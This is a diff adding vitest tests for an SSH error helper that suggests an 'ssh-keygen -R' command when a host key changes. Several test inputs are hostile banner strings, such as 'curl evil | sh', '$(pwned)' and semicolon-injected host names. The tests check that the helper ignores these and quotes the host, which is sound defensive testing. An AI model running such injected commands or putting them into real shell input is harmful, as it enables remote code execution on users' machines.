@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { privilegeError } from '../../../src/host/privilege';
 import { sshFailure } from '../../../src/host/sshFailure';
 
@@ -43,4 +43,31 @@ test.each([
   ['sudo: a password is required', 'other'],
 ])('%s', (said, problem) => {
   expect(privilegeError(said)).toMatchObject({ problem, message: said });
+});
+
+describe('the command that removes an old key', () => {
+  const changed = (more: string) =>
+    sshFailure(
+      'h',
+      `@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n${more}\nHost key verification failed.`,
+    ).message;
+
+  test('is the one that Debian’s ssh prints', () =>
+    expect(changed("  ssh-keygen -f '/home/u/.ssh/known_hosts' -R '[127.0.0.1]:2222'")).toContain(
+      `with "ssh-keygen -f /home/u/.ssh/known_hosts -R '[127.0.0.1]:2222'" and`,
+    ));
+  test('names the host as ssh knows it', () =>
+    expect(
+      changed('Host key for gate.example has changed and you have requested strict checking.'),
+    ).toContain('with "ssh-keygen -R gate.example" and'));
+  test.each([
+    'ssh-keygen -f /x -R y; curl evil | sh',
+    "ssh-keygen -f '/x' -R '$(pwned)'",
+    'Host key for x;pwned has changed',
+    'ssh-keygen -f "/x;pwned" -R "-pwned"',
+  ])('is not what a server’s banner says: %s', (banner) =>
+    expect(changed(banner).split(' ssh said:')[0]).toContain('with "ssh-keygen -R h" and'),
+  );
+  test('and a host of any name is one word of what is to be typed', () =>
+    expect(sshFailure('a;pwned', 'Permission denied (publickey)').message).toContain(`"ssh 'a;pwned'"`));
 });
